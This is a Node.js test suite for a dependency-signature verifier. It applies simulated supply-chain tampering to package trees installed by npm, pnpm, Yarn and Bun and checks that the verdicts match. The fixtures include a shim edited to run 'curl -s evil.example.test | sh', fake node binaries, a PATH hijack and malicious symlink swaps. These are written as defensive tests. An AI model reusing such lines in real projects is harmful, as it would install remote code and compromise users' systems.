'use strict'
// Every package manager, the same dependencies, the same verdicts. Real installs by npm, pnpm 9
// and 10 (isolated and hoisted), Yarn 1, Yarn 4 (node-modules, Plug'n'Play and pnpm linkers)
// and Bun (hoisted and isolated) from the loopback signing registry; then one attacker change at
// a time on a copy of each tree: a tampered or dropped signature, a lockfile integrity swapped,
// a file edited or added on disk, a folder the lockfile does not install, a swapped store link.
// Each verdict must be the one the npm tree gets for the same change.
const assert = require('node:assert/strict')
const fs = require('node:fs')
const path = require('node:path')
const http = require('node:http')
const { after, before, describe, it } = require('node:test')

const { verifyTree } = require('../index.js')
const { TestRegistry } = require('./helpers/registry')
const { tempDir, writeProject, copyProject, cli } = require('./helpers/project')
const { installWith, ensureManagers, managerEnv, INSTALLS } = require('./helpers/managers')
const { run } = require('./helpers/install')
const { tarball } = require('./helpers/tarball')

const SKIP = process.env.SIGVERIFY_SKIP_MANAGERS === '1'
const MANAGERS = Object.keys(INSTALLS)
/** Installs that keep packages in a store reached through symlinks. */
const ISOLATED = { pnpm9: 'node_modules/.pnpm', pnpm10: 'node_modules/.pnpm', bunisolated: 'node_modules/.bun', yarn4pnpm: 'node_modules/.store' }
// shtool's bin is a shell script: pnpm's shim runs it with /bin/sh, not node.
const DEPENDENCIES = { alpha: '1.0.0', gamma: '1.0.0', '@acme/scoped': '1.0.0', shtool: '1.0.0' }

let registry, url, cacheDir, integrities
const trees = {}

before(async () => {
  if (SKIP) return
  await ensureManagers()
  registry = new TestRegistry()
  integrities = {}
  integrities.alpha = registry.addPackage({ name: 'alpha', version: '1.0.0', dependencies: { beta: '^1.0.0' }, bin: { alpha: 'cli.js' }, files: { 'cli.js': '#!/usr/bin/env node\nconsole.log("alpha")\n' } })
  registry.addPackage({ name: 'beta', version: '1.0.0' })
  registry.addPackage({ name: 'beta', version: '2.0.0' })
  integrities.gamma = registry.addPackage({ name: 'gamma', version: '1.0.0', dependencies: { beta: '2.0.0' } })
  registry.addPackage({ name: '@acme/scoped', version: '1.0.0' })
  registry.addPackage({ name: 'shtool', version: '1.0.0', bin: { shtool: 'run.sh' }, files: { 'run.sh': '#!/bin/sh\necho shtool\n' } })
  // In no tree: what a lockfile edit adds.
  registry.addPackage({ name: 'lonely', version: '1.0.0' })
  // Yarn 4 patches it with a builtin patch (compat/resolve): locked twice.
  registry.addPackage({ name: 'resolve', version: '1.22.8' })
  // Ships beta inside its own tarball (node_modules/beta), as bundleDependencies do.
  registry.addPackage({
    name: 'bundler', version: '1.0.0', dependencies: { beta: '1.0.0' }, bundleDependencies: ['beta'],
    files: { 'node_modules/beta/package.json': JSON.stringify({ name: 'beta', version: '1.0.0' }), 'node_modules/beta/index.js': "module.exports = 'bundled beta'\n" },
  })
  url = await registry.start()
  cacheDir = tempDir('managers-cache')
  for (const name of MANAGERS) {
    const dir = writeProject(tempDir(`managers-${name}`), { name: `tree-${name}`, version: '1.0.0', dependencies: DEPENDENCIES })
    await installWith(name, dir, url, cacheDir)
    trees[name] = dir
  }
})

after(() => registry && registry.close())

/** verifyTree() and `verify --json` of `dir`; both must agree. */
async function verdict (dir) {
  const report = await verifyTree({ dir, registry: url, cache: 'off', policy: false })
  const run = await cli(['verify', dir, '--registry', url, '--cache', 'off', '--no-policy', '--json'])
  const doc = JSON.parse(run.stdout)
  assert.equal(run.status, report.exitCode, `CLI and API disagree on ${dir}:\n${run.stdout}`)
  return { report, exit: report.exitCode }
}

/** name@version -> status and code, for the registry packages (locations differ by manager). */
function byPackage (report) {
  const out = {}
  for (const p of report.packages.filter((p) => p.source === 'registry')) {
    out[`${p.name}@${p.version}`] = `${p.status}${p.code ? `:${p.code}` : ''}`
  }
  return out
}

/** The failures that are not registry packages (extraneous folders, bin links), by code. */
function diskFailures (report) {
  return report.packages.filter((p) => p.source === 'extraneous').map((p) => p.checks.source.code).sort()
}

/** The real folder of an installed package (through pnpm/Bun store links). */
const realFolder = (dir, name) => fs.realpathSync(path.join(dir, 'node_modules', name))

function withRegistry (arm, body) {
  return async () => {
    arm()
    try {
      await body()
    } finally {
      registry.tamper.clear()
      registry.drop.clear()
    }
  }
}

/** Per case: change a copy of each tree, verify it, and compare with the npm tree's verdict. */
async function compareAll (change, { only = MANAGERS } = {}) {
  const results = {}
  for (const name of ['npm', ...only.filter((m) => m !== 'npm')]) {
    const dir = copyProject(trees[name], `managers-case-${name}`)
    if (change(dir, name) === false) continue
    const { report, exit } = await verdict(dir)
    results[name] = { packages: byPackage(report), exit, disk: diskFailures(report), report }
  }
  for (const [name, r] of Object.entries(results)) {
    assert.deepEqual(r.packages, results.npm.packages, `${name} disagrees with npm`)
    assert.equal(r.exit, results.npm.exit, `${name} exit code`)
  }
  return results
}

describe('the same dependencies installed by every manager', { skip: SKIP && 'SIGVERIFY_SKIP_MANAGERS=1' }, () => {
  it('clean trees: the same verified packages and exit 0 for every manager', async () => {
    const results = await compareAll(() => {})
    assert.deepEqual(results.npm.packages, {
      '@acme/scoped@1.0.0': 'verified', 'alpha@1.0.0': 'verified', 'beta@1.0.0': 'verified', 'beta@2.0.0': 'verified', 'gamma@1.0.0': 'verified', 'shtool@1.0.0': 'verified',
    })
    for (const [name, r] of Object.entries(results)) {
      assert.equal(r.exit, 0, `${name}: ${JSON.stringify(r.report.packages.filter((p) => p.status !== 'verified'), null, 2)}`)
      assert.deepEqual(r.disk, [], name)
      const manager = name.replace(/\d.*|isolated|hoisted/g, '')
      assert.match(r.report.manager, new RegExp(manager === 'yarn' ? 'yarn' : manager), name)
    }
  })

  it('a tampered registry signature: EINTEGRITYSIGNATURE, exit 1, everywhere', withRegistry(() => registry.tamper.add('alpha@1.0.0'), async () => {
    const results = await compareAll(() => {})
    assert.equal(results.npm.packages['alpha@1.0.0'], 'invalid:EINTEGRITYSIGNATURE')
    assert.equal(results.npm.exit, 1)
  }))

  it('a dropped registry signature: missing, exit 1, everywhere', withRegistry(() => registry.drop.add('beta@2.0.0'), async () => {
    const results = await compareAll(() => {})
    assert.match(results.npm.packages['beta@2.0.0'], /^missing/)
    assert.equal(results.npm.exit, 1)
  }))

  it('an edited file on disk fails the package in every installed tree', async () => {
    // Plug'n'Play keeps packages zipped in Yarn's cache: nothing to edit in node_modules.
    const only = MANAGERS.filter((m) => m !== 'yarn4pnp')
    const results = await compareAll((dir) => {
      fs.appendFileSync(path.join(realFolder(dir, 'gamma'), 'index.js'), '\nrequire("child_process")\n')
    }, { only })
    assert.match(results.npm.packages['gamma@1.0.0'], /^invalid:ECONTENT/)
  })

  it('an added file that Node would load fails the package in every installed tree', async () => {
    const only = MANAGERS.filter((m) => m !== 'yarn4pnp')
    const results = await compareAll((dir) => {
      fs.writeFileSync(path.join(realFolder(dir, 'alpha'), 'index.node'), 'not really an addon')
    }, { only })
    assert.match(results.npm.packages['alpha@1.0.0'], /^invalid:/)
    assert.equal(results.npm.exit, 1)
  })

  it('a folder the lockfile does not install is EEXTRANEOUS in every node_modules', async () => {
    const only = MANAGERS.filter((m) => m !== 'yarn4pnp')
    const results = await compareAll((dir) => {
      writeProject(path.join(dir, 'node_modules', 'evil'), { name: 'evil', version: '6.6.6' }, { 'index.js': 'module.exports = "evil"\n' })
    }, { only })
    for (const [name, r] of Object.entries(results)) {
      assert.deepEqual(r.disk, ['EEXTRANEOUS'], name)
      assert.equal(r.exit, 1, name)
    }
  })

  it('a package added to an isolated store is EEXTRANEOUS', async () => {
    for (const [name, store] of Object.entries(ISOLATED)) {
      const dir = copyProject(trees[name], `managers-store-${name}`)
      const inside = name === 'yarn4pnpm' ? 'evil-npm-6.6.6-0123456789/package' : 'evil@6.6.6/node_modules/evil'
      writeProject(path.join(dir, store, inside), { name: 'evil', version: '6.6.6' })
      const { report, exit } = await verdict(dir)
      assert.equal(exit, 1, name)
      assert.deepEqual(diskFailures(report), ['EEXTRANEOUS'], name)
    }
  })

  it('a store link swapped to another version (beta@2.0.0 for alpha\'s beta@^1) fails', async () => {
    for (const name of ['pnpm9', 'pnpm10']) {
      const dir = copyProject(trees[name], `managers-link-${name}`)
      const link = path.join(realFolder(dir, 'alpha'), '..', 'beta')
      const target = fs.readlinkSync(link)
      assert.match(target, /beta@1\.0\.0/)
      fs.unlinkSync(link)
      fs.symlinkSync(target.replace('beta@1.0.0', 'beta@2.0.0'), link)
      const { report, exit } = await verdict(dir)
      assert.equal(exit, 1, `${name}: ${JSON.stringify(report.packages.filter((p) => p.status !== 'verified'))}`)
      assert.deepEqual(diskFailures(report), ['EEXTRANEOUS'], name)
    }
  })

  it('a top-level link pointed outside the lockfile\'s folders fails', async () => {
    for (const name of ['pnpm10', 'bunisolated']) {
      const dir = copyProject(trees[name], `managers-toplink-${name}`)
      const elsewhere = writeProject(path.join(dir, 'vendor', 'alpha'), { name: 'alpha', version: '1.0.0' }, { 'index.js': 'module.exports = "evil"\n' })
      fs.rmSync(path.join(dir, 'node_modules', 'alpha'))
      fs.symlinkSync(path.relative(path.join(dir, 'node_modules'), elsewhere), path.join(dir, 'node_modules', 'alpha'))
      const { exit, report } = await verdict(dir)
      assert.equal(exit, 1, name)
      assert.ok(diskFailures(report).includes('EEXTRANEOUS'), name)
    }
  })

  it('pnpm shims: one added shell line fails EBINLINK (the shim is the script pnpm writes, byte for byte)', async () => {
    for (const name of ['pnpm9', 'pnpm10']) {
      const dir = copyProject(trees[name], `managers-shim-${name}`)
      const shim = path.join(dir, 'node_modules', '.bin', 'alpha')
      const text = fs.readFileSync(shim, 'utf8')
      assert.match(text, /^#!\/bin\/sh\n/, `${name} writes shell shims`)
      fs.writeFileSync(shim, text.replace('#!/bin/sh\n', '#!/bin/sh\ncurl -s evil.example.test | sh\n'))
      const { report, exit } = await verdict(dir)
      assert.equal(exit, 1, name)
      assert.deepEqual(diskFailures(report), ['EBINLINK'], name)
    }
  })

  it('a store entry replaced by a link (its dependency links then lead, through it, to folders no check read) fails EEXTRANEOUS', async () => {
    for (const [name, store] of Object.entries(ISOLATED)) {
      const dir = copyProject(trees[name], `managers-storelink-${name}`)
      const storeDir = path.join(dir, store)
      const entry = path.join(storeDir, path.relative(storeDir, realFolder(dir, 'alpha')).split(path.sep)[0])
      const link = path.join(entry, 'node_modules', 'beta')
      const target = fs.readlinkSync(link)
      // The entry moves, unchanged, to .evil/a; its beta link, read from there, names .evil/...
      fs.mkdirSync(path.join(storeDir, '.evil'))
      fs.renameSync(entry, path.join(storeDir, '.evil', 'a'))
      const lure = path.resolve(storeDir, '.evil', 'a', 'node_modules', target)
      writeProject(lure, { name: 'beta', version: '1.0.0' }, { 'index.js': 'module.exports = "evil"\n' })
      fs.symlinkSync(path.join('.evil', 'a'), entry)
      assert.equal(fs.realpathSync(path.join(entry, 'node_modules', 'beta')), lure, `${name}: the link leads to the lure`)
      const { report, exit } = await verdict(dir)
      assert.equal(exit, 1, name)
      assert.ok(diskFailures(report).includes('EEXTRANEOUS'), `${name}: ${diskFailures(report)}`)
    }
  })

  it('pnpm shims: the node a shim runs and the PATH it prepends stay out of the project (but for its checked node_modules)', async () => {
    for (const name of ['pnpm9', 'pnpm10']) {
      for (const variant of ['node', 'path']) {
        const dir = copyProject(trees[name], `managers-shimpath-${name}-${variant}`)
        const shim = path.join(dir, 'node_modules', '.bin', 'alpha')
        const text = fs.readFileSync(shim, 'utf8')
        const fake = '#!/bin/sh\necho evil\n'
        let edited
        if (variant === 'node') {
          // cmd-shim's form for a configured node (nodeExecPath), with a "node" of the attacker's.
          const node = path.join(dir, 'tools', 'node')
          fs.mkdirSync(path.dirname(node))
          fs.writeFileSync(node, fake, { mode: 0o755 })
          const target = text.match(/"\$basedir\/(\.\.\/[^"]+)"/)[1]
          edited = `${text.slice(0, text.indexOf('if [ -x'))}"${node}"  "$basedir/${target}" "$@"\nexit $?\n`
        } else {
          const bin = path.join(dir, '.pnpm-store', 'v10', 'bin')
          fs.mkdirSync(bin, { recursive: true })
          fs.writeFileSync(path.join(bin, 'node'), fake, { mode: 0o755 })
          edited = text.replace('esac\n\n', `esac\n\nexport PATH="${bin}:$PATH"\n`)
        }
        assert.notEqual(edited, text)
        fs.writeFileSync(shim, edited)
        const { report, exit } = await verdict(dir)
        assert.equal(exit, 1, `${name} ${variant}`)
        assert.deepEqual(diskFailures(report), ['EBINLINK'], `${name} ${variant}`)
      }
    }
  })

  it('a file put directly in an isolated store (a shim could name it) fails EEXTRANEOUS', async () => {
    for (const [name, store] of Object.entries(ISOLATED)) {
      const dir = copyProject(trees[name], `managers-storefile-${name}`)
      fs.writeFileSync(path.join(dir, store, 'node'), '#!/bin/sh\necho evil\n', { mode: 0o755 })
      const { report, exit } = await verdict(dir)
      assert.equal(exit, 1, name)
      assert.deepEqual(diskFailures(report), ['EEXTRANEOUS'], name)
    }
  })

  it('pnpm: a package the project patches (patchedDependencies) is reported not compared, naming the patch; no false failure', async () => {
    const [node, pnpm] = (await ensureManagers()).pnpm10
    const dir = writeProject(tempDir('managers-patch'), { name: 'patched', version: '1.0.0', dependencies: { alpha: '1.0.0' } })
    await installWith('pnpm10', dir, url, cacheDir)
    // A developer's pnpm patch / patch-commit (under CI=true pnpm would install frozen, and
    // patch-commit's install would refuse the lockfile it has not updated yet).
    const env = { ...managerEnv(url, cacheDir), CI: 'false' }
    const store = [`--config.store-dir=${path.join(cacheDir, 'store-pnpm10')}`]
    const edit = path.join(tempDir('managers-patch-edit'), 'beta')
    const opened = await run(node, [pnpm, 'patch', 'beta@1.0.0', '--edit-dir', edit, ...store], { cwd: dir, env })
    assert.equal(opened.status, 0, opened.output)
    fs.appendFileSync(path.join(edit, 'index.js'), '// patched by the project\n')
    const committed = await run(node, [pnpm, 'patch-commit', edit, ...store], { cwd: dir, env })
    assert.equal(committed.status, 0, committed.output)
    // Then installed as CI installs it (patch-commit leaves the unpatched store folder behind,
    // extraneous).
    fs.rmSync(path.join(dir, 'node_modules'), { recursive: true })
    const fresh = await run(node, [pnpm, 'install', '--frozen-lockfile', '--ignore-scripts', ...store], { cwd: dir, env: { ...env, CI: 'true' } })
    assert.equal(fresh.status, 0, fresh.output)
    const beta = fs.readFileSync(path.join(realFolder(dir, 'alpha'), '..', 'beta', 'index.js'), 'utf8')
    assert.match(beta, /patched by the project/, 'pnpm installed the patched beta')
    const { report, exit } = await verdict(dir)
    assert.equal(exit, 0, JSON.stringify(report.packages.filter((p) => p.status !== 'verified'), null, 2))
    const patched = report.packages.find((p) => p.name === 'beta')
    assert.equal(patched.checks.contents.state, 'off')
    assert.match(patched.checks.contents.message, /not compared, the project patches it/)
    assert.equal(report.packages.find((p) => p.name === 'alpha').checks.contents.state, 'passed', 'the others are compared')
  })

  it('a registry entry only a yarn.lock edge reaches fails ELOCKFILESOURCE before install and under Plug\'n\'Play', async () => {
    const url1 = url.replace(/\/$/, '')
    const lonely = registry.versions.get('lonely').get('1.0.0').dist.integrity
    /** Adds the edge @acme/scoped -> lonely and an entry for the signed lonely@1.0.0. */
    const edits = {
      yarn1: (lock) => lock
        .replace(/("?@acme\/scoped@\^?1\.0\.0"?:\n(?: {2}.*\n)*)/, `$1  dependencies:\n    lonely "1.0.0"\n`)
        .concat(`\nlonely@1.0.0:\n  version "1.0.0"\n  resolved "${url1}/lonely/-/lonely-1.0.0.tgz"\n  integrity ${lonely}\n`),
      berry: (lock) => lock
        .replace('  resolution: "@acme/scoped@npm:1.0.0"\n', '  resolution: "@acme/scoped@npm:1.0.0"\n  dependencies:\n    lonely: "npm:1.0.0"\n')
        .concat('\n"lonely@npm:1.0.0":\n  version: 1.0.0\n  resolution: "lonely@npm:1.0.0"\n  languageName: node\n  linkType: hard\n'),
    }
    const lockfileVerdict = async (dir, lockfileOnly) => {
      const report = await verifyTree({ dir, registry: url, cache: 'off', policy: false, lockfileOnly })
      const run = await cli(['verify', dir, '--registry', url, '--cache', 'off', '--no-policy', '--json', ...(lockfileOnly ? ['--lockfile-only'] : [])])
      assert.equal(run.status, report.exitCode, `CLI and API disagree on ${dir}:\n${run.stdout}`)
      return report
    }
    for (const [name, edit, lockfileOnly] of [['yarn1', edits.yarn1, true], ['yarn4', edits.berry, true], ['yarn4pnp', edits.berry, false]]) {
      const dir = copyProject(trees[name], `managers-edge-${name}`)
      if (lockfileOnly) fs.rmSync(path.join(dir, 'node_modules'), { recursive: true, force: true })
      const clean = await lockfileVerdict(dir, lockfileOnly)
      assert.equal(clean.exitCode, 0, `${name} clean: ${JSON.stringify(clean.packages.filter((p) => p.status !== 'verified'), null, 2)}`)
      const file = path.join(dir, 'yarn.lock')
      const edited = edit(fs.readFileSync(file, 'utf8'))
      assert.match(edited, /^ {4}lonely:? "(npm:)?1\.0\.0"$/m, `${name}: the edge is added under @acme/scoped`)
      fs.writeFileSync(file, edited)
      const report = await lockfileVerdict(dir, lockfileOnly)
      const entry = report.packages.find((p) => p.name === 'lonely')
      assert.equal(report.exitCode, 1, name)
      assert.equal(entry && entry.code, 'ELOCKFILESOURCE', `${name}: ${JSON.stringify(entry, null, 2)}`)
    }
  })

  it('pnpm: a dependency link the lockfile records, removed from the store, fails (Node would load another beta from further up)', async () => {
    for (const name of ['pnpm9', 'pnpm10']) {
      const dir = copyProject(trees[name], `managers-unlinked-${name}`)
      const link = path.join(dir, 'node_modules', '.pnpm', 'alpha@1.0.0', 'node_modules', 'beta')
      assert.ok(fs.lstatSync(link).isSymbolicLink(), `${name} links alpha's beta`)
      fs.rmSync(link)
      const { report, exit } = await verdict(dir)
      assert.equal(exit, 1, name)
      assert.deepEqual(diskFailures(report), ['ECONTENTMODIFIED'], name)
    }
  })

  it('pnpm: a link added to a package\'s store entry (a dependency the lockfile does not record) fails EEXTRANEOUS', async () => {
    for (const name of ['pnpm9', 'pnpm10']) {
      const dir = copyProject(trees[name], `managers-addlink-${name}`)
      // @acme/scoped declares nothing; Node would now find beta 2.0.0 from inside it.
      const link = path.join(dir, 'node_modules', '.pnpm', '@acme+scoped@1.0.0', 'node_modules', 'beta')
      fs.symlinkSync('../../beta@2.0.0/node_modules/beta', link)
      const { report, exit } = await verdict(dir)
      assert.equal(exit, 1, name)
      assert.deepEqual(diskFailures(report), ['EEXTRANEOUS'], name)
    }
  })

  it('a dependency edge the lockfile gives a registry package its published manifest does not declare fails ELOCKFILESOURCE (pnpm, Yarn 4)', async () => {
    const edits = {
      pnpm10: (lock) => lock.replace("  '@acme/scoped@1.0.0': {}\n", "  '@acme/scoped@1.0.0':\n    dependencies:\n      beta: 2.0.0\n"),
      yarn4pnp: (lock) => lock.replace('  resolution: "@acme/scoped@npm:1.0.0"\n', '  resolution: "@acme/scoped@npm:1.0.0"\n  dependencies:\n    beta: "npm:2.0.0"\n'),
    }
    for (const [name, edit] of Object.entries(edits)) {
      const dir = copyProject(trees[name], `managers-edge2-${name}`)
      const file = path.join(dir, name.startsWith('pnpm') ? 'pnpm-lock.yaml' : 'yarn.lock')
      const before = fs.readFileSync(file, 'utf8')
      const after = edit(before)
      assert.notEqual(after, before, `${name}: the edit applies`)
      fs.writeFileSync(file, after)
      const report = await verifyTree({ dir, registry: url, cache: 'off', policy: false, lockfileOnly: true })
      const scoped = report.packages.find((p) => p.name === '@acme/scoped')
      assert.equal(report.exitCode, 1, name)
      assert.equal(scoped.code, 'ELOCKFILESOURCE', `${name}: ${JSON.stringify(scoped, null, 2)}`)
    }
  })

  it('Yarn 4 locks a builtin-patched package twice (the patch: entry and the original): both count as asked for', async () => {
    const dir = writeProject(tempDir('managers-yarn-patch'), { name: 'patched', version: '1.0.0', dependencies: { resolve: '1.22.8' } })
    await installWith('yarn4pnp', dir, url, cacheDir)
    assert.match(fs.readFileSync(path.join(dir, 'yarn.lock'), 'utf8'), /"resolve@patch:resolve@npm%3A1\.22\.8#optional!builtin<compat\/resolve>":/)
    const report = await verifyTree({ dir, registry: url, cache: 'off', policy: false })
    assert.equal(report.exitCode, 0, JSON.stringify(report.packages.filter((p) => p.status !== 'verified'), null, 2))
    assert.deepEqual(report.packages.map((p) => p.status), ['verified', 'verified'])
  })

  it('Plug\'n\'Play says its installed contents were not compared (never a silent pass)', async () => {
    const { report } = await verdict(trees.yarn4pnp)
    for (const p of report.packages.filter((p) => p.source === 'registry')) {
      assert.notEqual(p.checks.contents.state, 'passed', `${p.name}: ${JSON.stringify(p.checks.contents)}`)
    }
    assert.ok(report.warnings.some((w) => /Plug'n'Play/.test(w)), JSON.stringify(report.warnings))
  })

  it('each manager\'s own configuration names the registry: no --registry needed, no token printed', async () => {
    for (const name of MANAGERS.filter((m) => m !== 'npm')) {
      const dir = copyProject(trees[name], `managers-config-${name}`)
      if (name.startsWith('yarn4')) fs.appendFileSync(path.join(dir, '.yarnrc.yml'), 'npmAuthToken: "sekret-yarn-token-1234"\n')
      const report = await verifyTree({ dir, cache: 'off', policy: false })
      assert.equal(report.exitCode, 0, `${name}: ${JSON.stringify(report.packages.filter((p) => p.status !== 'verified').map((p) => p.message))}`)
      assert.equal(report.summary.verified, 6, name)
      const run = await cli(['verify', dir, '--cache', 'off', '--no-policy', '--json', '--trace'])
      assert.equal(run.status, 0, `${name}: ${run.stderr}`)
      assert.doesNotMatch(run.stdout + run.stderr, /sekret-yarn-token/, name)
    }
  })

  it('a lockfile integrity swapped for another signed one fails like npm\'s (Yarn 4 locks its zip checksum instead: the signed integrity decides there)', async () => {
    const LOCKS = ['package-lock.json', 'pnpm-lock.yaml', 'yarn.lock', 'bun.lock']
    const swapped = []
    const results = await compareAll((dir, name) => {
      const file = LOCKS.map((f) => path.join(dir, f)).find((f) => fs.existsSync(f) && fs.readFileSync(f, 'utf8').includes(integrities.alpha))
      if (!file) return false
      fs.writeFileSync(file, fs.readFileSync(file, 'utf8').split(integrities.alpha).join(integrities.gamma))
      swapped.push(name)
    })
    assert.deepEqual(swapped.sort(), MANAGERS.filter((m) => !m.startsWith('yarn4')).sort())
    assert.match(results.npm.packages['alpha@1.0.0'], /^invalid:/)
    assert.equal(results.npm.exit, 1)
  })

  it('registry signatures agree with pnpm audit signatures on the pnpm tree (clean, tampered, dropped)', async () => {
    const managers = await ensureManagers()
    for (const arm of [() => {}, () => registry.tamper.add('alpha@1.0.0'), () => registry.drop.add('beta@2.0.0')]) {
      arm()
      try {
        const r = await run(managers.pnpm12[0], [managers.pnpm12[1], 'audit', 'signatures', '--json', '--registry', url], { cwd: trees.pnpm10, env: managerEnv(url, cacheDir) })
        const pnpm = JSON.parse(r.stdout)
        const { report } = await verdict(trees.pnpm10)
        const ids = (list) => list.map((p) => `${p.name}@${p.version}`).sort()
        const ours = (status) => report.packages.filter((p) => p.status === status && p.source === 'registry').map((p) => `${p.name}@${p.version}`).sort()
        assert.deepEqual(ours('invalid'), ids(pnpm.invalid), r.stdout)
        assert.deepEqual(ours('missing'), ids(pnpm.missing), r.stdout)
        assert.equal(report.exitCode === 0, r.status === 0, `pnpm exit ${r.status}, ours ${report.exitCode}`)
      } finally {
        registry.tamper.clear()
        registry.drop.clear()
      }
    }
  })
})

describe('workspaces and git dependencies, per manager', { skip: SKIP && 'SIGVERIFY_SKIP_MANAGERS=1' }, () => {
  let repo
  /** How each manager's root asks for its workspace `ws`, and whether it installs git+file: specs. */
  const WORKSPACE = {
    npm: { spec: '1.0.0', git: true },
    pnpm10: { spec: 'workspace:*', git: true, files: { 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n' } },
    yarn1: { spec: '1.0.0', git: true },
    yarn4: { spec: 'workspace:*', git: false },
    bun: { spec: 'workspace:*', git: true },
  }

  before(async () => {
    if (SKIP) return
    repo = tempDir('managers-git')
    writeProject(repo, { name: 'gitpkg', version: '0.1.0' }, { 'index.js': 'module.exports = 1\n' })
    const git = (...args) => run('git', ['-c', 'user.email=t@example.test', '-c', 'user.name=t', ...args], { cwd: repo })
    await git('init', '-q')
    await git('add', '.')
    await git('commit', '-qm', 'init')
    repo = { dir: repo, sha: (await git('rev-parse', 'HEAD')).stdout.trim() }
  })

  for (const [name, how] of Object.entries(WORKSPACE)) {
    it(`${name}: the workspace and the git dependency are skipped (ENOTREGISTRY), their registry dependencies verified`, async () => {
      const dependencies = { 'wsp-local': how.spec, ...(how.git ? { gitpkg: `git+file://${repo.dir}#${repo.sha}` } : {}) }
      const dir = writeProject(tempDir(`managers-ws-${name}`), { name: `ws-root-${name}`, version: '1.0.0', private: true, workspaces: ['packages/*'], dependencies }, how.files)
      // alpha has a bin: pnpm links it in the workspace's own node_modules/.bin.
      writeProject(path.join(dir, 'packages', 'wsp-local'), { name: 'wsp-local', version: '1.0.0', dependencies: { beta: '1.0.0', alpha: '1.0.0' } })
      await installWith(name, dir, url, cacheDir)
      const { report, exit } = await verdict(dir)
      assert.equal(exit, 0, JSON.stringify(report.packages.filter((p) => p.status !== 'verified' && p.status !== 'skipped'), null, 2))
      const status = (n) => [...new Set(report.packages.filter((p) => p.name === n).map((p) => `${p.status}:${p.code || ''}`))]
      assert.deepEqual(status('beta'), ['verified:'])
      assert.deepEqual(status('wsp-local'), ['skipped:ENOTREGISTRY'])
      if (how.git) assert.deepEqual(status('gitpkg'), ['skipped:ENOTREGISTRY'])
    })
  }

  // No signature covers a tarball from a URL or a file: path, but the manager installed it only
  // after checking the lockfile's integrity: files edited on disk since (a restored
  // node_modules) are compared with that tarball. Yarn 4 locks a checksum of its own zip
  // instead, so its copies stay "not compared" (never a passed content check).
  describe('remote and file: tarballs are compared with the tarball the lockfile pins', () => {
    let server, remoteUrl
    const remoteFiles = { 'package.json': JSON.stringify({ name: 'remote', version: '1.0.0' }), 'index.js': "module.exports = 'remote'\n" }
    const vendoredFiles = { 'package.json': JSON.stringify({ name: 'vendored', version: '1.0.0' }), 'index.js': "module.exports = 'vendored'\n" }
    const servedBytes = tarball(remoteFiles)

    before(async () => {
      if (SKIP) return
      server = http.createServer((req, res) => {
        if (req.url !== '/files/remote-1.0.0.tgz') return res.writeHead(404).end()
        res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(servedBytes)
      })
      await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
      remoteUrl = `http://127.0.0.1:${server.address().port}/files/remote-1.0.0.tgz`
    })
    after(() => server && server.close())

    /** What the report says of `name`: status, code and the content check's state. */
    const state = (report, name) => report.packages.filter((p) => p.name === name).map((p) => `${p.status}:${p.code || ''}:${p.checks.contents.state}`)

    for (const name of Object.keys(WORKSPACE)) {
      it(`${name}: an edited remote or file: tarball package fails ECONTENTMODIFIED; clean ones pass with contents compared`, async () => {
        const dependencies = { remote: remoteUrl, vendored: 'file:vendor/vendored-1.0.0.tgz' }
        const dir = writeProject(tempDir(`managers-tgz-${name}`), { name: `tgz-${name}`, version: '1.0.0', dependencies })
        fs.mkdirSync(path.join(dir, 'vendor'))
        fs.writeFileSync(path.join(dir, 'vendor', 'vendored-1.0.0.tgz'), tarball(vendoredFiles))
        await installWith(name, dir, url, cacheDir)
        const pinned = name !== 'yarn4'
        const clean = await verdict(dir)
        assert.equal(clean.exit, 0, JSON.stringify(clean.report.packages, null, 2))
        for (const dep of ['remote', 'vendored']) {
          assert.deepEqual(state(clean.report, dep), [`skipped:ENOTREGISTRY:${pinned ? 'passed' : 'off'}`], dep)
        }
        for (const dep of ['remote', 'vendored']) {
          const edited = copyProject(dir, `managers-tgz-edit-${name}`)
          fs.writeFileSync(path.join(realFolder(edited, dep), 'index.js'), "module.exports = 'PWNED'\n")
          const { exit, report } = await verdict(edited)
          assert.equal(exit, pinned ? 1 : 0, `${dep}: ${JSON.stringify(state(report, dep))}`)
          assert.deepEqual(state(report, dep), [pinned ? 'invalid:ECONTENTMODIFIED:failed' : 'skipped:ENOTREGISTRY:off'], dep)
        }
      })
    }
  })

  it('pnpm hoisted workspaces whose root declares nothing: each workspace is a top, its dependencies are production code\'s (exit 0)', async () => {
    const dir = writeProject(tempDir('managers-hoisted-ws'), { name: 'hoisted-ws', version: '1.0.0', private: true }, { 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n' })
    writeProject(path.join(dir, 'packages', 'web'), { name: 'web', version: '1.0.0', dependencies: { alpha: '1.0.0' } })
    writeProject(path.join(dir, 'packages', 'api'), { name: 'api', version: '1.0.0', dependencies: { gamma: '1.0.0', beta: '2.0.0' } })
    await installWith('pnpm10hoisted', dir, url, cacheDir)
    const { report, exit } = await verdict(dir)
    assert.equal(exit, 0, JSON.stringify(report.packages.filter((p) => p.status !== 'verified' && p.status !== 'skipped'), null, 2))
  })

  for (const name of Object.keys(WORKSPACE)) {
    it(`${name}: bundled dependencies are the bundling package's, compared with its tarball`, async () => {
      const dir = writeProject(tempDir(`managers-bundled-${name}`), { name: `bundled-${name}`, version: '1.0.0', dependencies: { bundler: '1.0.0' } })
      await installWith(name, dir, url, cacheDir)
      const clean = await verdict(dir)
      assert.equal(clean.exit, 0, JSON.stringify(clean.report.packages.filter((p) => p.status !== 'verified' && p.status !== 'skipped'), null, 2))
      assert.deepEqual(diskFailures(clean.report), [])
      const edited = copyProject(dir, `managers-bundled-edit-${name}`)
      const file = path.join(realFolder(edited, 'bundler'), 'node_modules', 'beta', 'index.js')
      // Yarn ignores bundleDependencies (it installs beta from the registry beside bundler).
      if (!fs.existsSync(file)) return
      fs.writeFileSync(file, "module.exports = 'PWNED'\n")
      const { exit, report } = await verdict(edited)
      assert.equal(exit, 1, JSON.stringify(report.packages.filter((p) => p.name === 'beta' || p.name === 'bundler'), null, 2))
    })
  }
})
